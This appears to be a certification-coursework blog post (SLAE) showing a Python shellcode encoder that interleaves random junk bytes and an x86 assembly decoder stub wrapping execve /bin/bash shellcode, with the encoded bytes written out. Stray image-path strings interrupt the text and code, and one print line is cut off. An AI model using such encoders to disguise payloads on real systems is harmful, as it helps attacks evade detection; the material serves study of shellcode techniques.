martes, 6 de mayo de 2014

[SLAE] IV Simple Encoder/decoder

Source:SecurityTube

Ok, here I will show simple Enconder/decoder, source code can be found in github.
How encoder work:

  1. Get random number between 1-3 (link to python encoder script)
  2. After add controlnumber to shellcode, add junk bytes
|  G   |  C   |   J   |   J   |  G   |   C  |  J   |  J   |   J   |   G |

G - good byte, shellcode byte
C - control number, help us control junk bytes to escape
J - Junk bytes

from random import randint
#30 bytes
#shellcode - execve stack version
def get_random(ident):
    if ident == 'number':
        returnrandint(1,3)
    elif ident == 'char':
        return randint(65,122)#only [a-z[]\^_`A-Z]

shellcode  = ("\x31\xc0\x50\x68\x62\x61\x73\x68\x68\x62\x69\x6e\x2f\x68\x2f\x2f\x2f\x2f\x89\xe3\x50\x89\xe2\x53\x89\xe1\xb0\x0b\xcd\x80")
encoded = ""
#end     = "\\xf0\\x0d"

for x in bytearray(shellcode):
    encoded += '\\x%02x' % x
    random = get_random('number')
    encoded += '\\x%02x' % random
    for i in range(random-1):
        encoded += '\\x%02x' % get_random('char')

#encoded += end #probably we will need it for correct jump

print encoded
print encoded.replace("\\x", ",0x")[1:]

print 'Initial len: %d, encoded len: %d' % (len(shellcode),

section .text
global _start
        jmp short end ; jmp pop call
        xor eax, eax    ; clean up the registers
        xor ebx, ebx
        xor edx, edx
        xor ecx, ecx
        pop edx         ; get addr of shellcode putted by call starter
        push edx        ; backup for call :D
        mov esi, edx    ; mov shellcode start addr to esi (source)
        mov edi, edx    ; mov shellcode start addr to edi (destination)
        inc esi         ; point to the first dest byte, how many bytes we need to remove/espace
        inc edi         ; point to the first random number
        mov cl, 89      ; loop counter/your shellcode length, if you use diferent shellcode need adjust it
restore: ;decode
        xor eax, eax
        xor ebx, ebx
        mov al, byte [edi]  ; read distance to next byte
        add eax, edi        ; eax = addr of the next valid bytemov bl, byte [eax]  ; bl = next valid byte of the shellcode
        mov byte [esi], bl  ; move it to the final position
        mov edi, eax        ; put latest valid pisition into edi
        inc edi             ; next distance
        inc esi             ; next valid byte
        loop restore        ; loop
        pop ecx             ; call shellcode
        call ecx
        xor eax, eax        ; exit the shellcode (if it returns)
        mov al, 1
        xor ebx,ebx
        int 0x80
        call decoder  ; put shellcode addr into stack
        shelcode: db0x31,0x01,0xc0,0x03,0x7a,0x6b,0x50,0x03,0x76,0x50,0x68,0x02,0x4f,0x62,0x03,0x6c,0x49,0x61,0x01,0x73,0x01,0x68,0x02,0x54,0x68,0x01,0x62,0x03,0x5e,0x7a,0x69,0x01,0x6e,0x01,0x2f,0x03,0x54,0x48,0x68,0x01,0x2f,0x03,0x47,0x4d,0x2f,0x01,0x2f,0x01,0x2f,0x01,0x89,0x03,0x4a,0x62,0xe3,0x01,0x50,0x02,0x42,0x89,0x02,0x63,0xe2,0x02,0x62,0x53,0x03,0x4f,0x41,0x89,0x01,0xe1,0x03,0x72,0x5b,0xb0,0x03,0x48,0x66,0x0b,0x02,0x61,0xcd,0x02,0x4f,0x80,0x03,0x41,0x4eThis blog post has been createdfor completing the requirements of the SecurityTube Linux Assembly Expert certification:

No hay comentarios:

Publicar un comentario